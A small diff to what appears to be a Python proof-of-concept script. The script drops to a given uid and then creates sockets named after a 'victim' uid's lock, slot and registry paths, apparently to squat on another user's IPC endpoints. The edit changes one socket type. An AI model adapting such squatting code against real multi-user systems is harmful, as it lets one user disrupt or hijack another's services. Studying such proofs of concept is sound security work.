@@ -11,7 +11,7 @@ import sys
 resource.setrlimit(resource.RLIMIT_NOFILE, 2 * resource.getrlimit(resource.RLIMIT_NOFILE)[1:])
 user, victim = int(sys.argv[1]), int(sys.argv[2])
 os.setresuid(user, user, user)
-names = [(socket.SOCK_DGRAM, "%d/lock" % victim)]
+names = [(socket.SOCK_SEQPACKET, "%d/lock" % victim)]
 for slot in range(1, 256):
     names.append((socket.SOCK_DGRAM, "slot/%d" % slot))
     names.append((socket.SOCK_SEQPACKET, "%d/registry/%d" % (victim, slot)))
